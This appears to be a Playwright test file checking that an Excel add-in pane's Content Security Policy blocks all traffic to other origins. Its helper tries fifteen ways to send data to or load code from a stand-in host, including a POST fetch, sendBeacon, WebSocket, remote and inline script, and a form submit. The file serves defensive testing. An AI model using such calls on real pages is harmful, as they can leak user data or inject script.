import type { Page } from 'playwright-core';
import { EMPTY_TEXT } from '../../src/text/pane/start';
import { openExcel } from './harness/open-excel';
import { startPane } from './harness/start-pane';
import type { RunningPane } from './harness/start-pane';

const ELSEWHERE = 'https://noi-khac.vi-du.vn';

const firstScreen = (page: Page) => page.getByRole('heading', { name: EMPTY_TEXT.title });

let pane: RunningPane;
beforeAll(async () => {
  pane = await startPane('bundled');
});
afterAll(() => pane.stop());

test('nothing leaves the origin', async () => {
  const excel = await openExcel(pane.browser, pane);
  await firstScreen(excel.page).waitFor();
  expect(excel.requests.map((address) => new URL(address).pathname)).toContain(
    '/office-js/office.js',
  );
  expect(excel.faults).toEqual([]);
  expect(await excel.lacking()).toEqual([]);
  await excel.close();
});

test('the page may not reach, show or run anything from elsewhere', async () => {
  const excel = await openExcel(pane.browser, pane);
  await firstScreen(excel.page).waitFor();
  const known = excel.requests.length;
  const refused = await excel.page.evaluate(tryToEscape, ELSEWHERE);
  expect(refused).toEqual([
    'base-uri',
    'connect-src',
    'font-src',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
    'worker-src',
  ]);
  expect(await excel.page.evaluate(() => 'hasEscaped' in window)).toBe(false);
  expect(excel.requests.slice(known).filter((address) => address.startsWith(ELSEWHERE))).toEqual(
    [],
  );
  // The watch of all walks sees it too.
  expect(excel.faults.join('\n')).toContain('Content Security Policy');
  await excel.close();
});

/** In the page: every way out that there is. Tells which directives stood in the way. */
async function tryToEscape(elsewhere: string): Promise<readonly string[]> {
  const refused = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    refused.add(effectiveDirective),
  );
  const add = (tag: string, attributes: Record<string, string>, text = ''): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const attempts: readonly (() => unknown)[] = [
    () => fetch(`${elsewhere}/so.xlsx`, { method: 'POST', body: 'x', mode: 'no-cors' }),
    () => navigator.sendBeacon(`${elsewhere}/dem`, 'x'),
    () => new WebSocket(elsewhere.replace('https', 'wss')),
    () => new Worker(URL.createObjectURL(new Blob(['']))),
    () => new FontFace('X', `url(${elsewhere}/x.woff2)`).load(),
    () => add('img', { src: `${elsewhere}/x.png` }),
    () => add('video', { src: `${elsewhere}/x.mp4` }),
    () => add('object', { data: `${elsewhere}/x.svg` }),
    () => add('iframe', { src: `${elsewhere}/x.html` }),
    () => add('base', { href: elsewhere }),
    () => add('link', { rel: 'stylesheet', href: `${elsewhere}/x.css` }),
    () => add('script', { src: `${elsewhere}/x.js` }),
    () => add('script', {}, 'window.hasEscaped = true'),
    () => add('button', { onclick: 'window.hasEscaped = true' }).click(),
    () => (add('form', { action: elsewhere, method: 'post' }) as HTMLFormElement).submit(),
  ];
  for (const attempt of attempts) {
    try {
      await attempt();
    } catch {
      // Some ways throw besides.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return [...refused].sort();
}
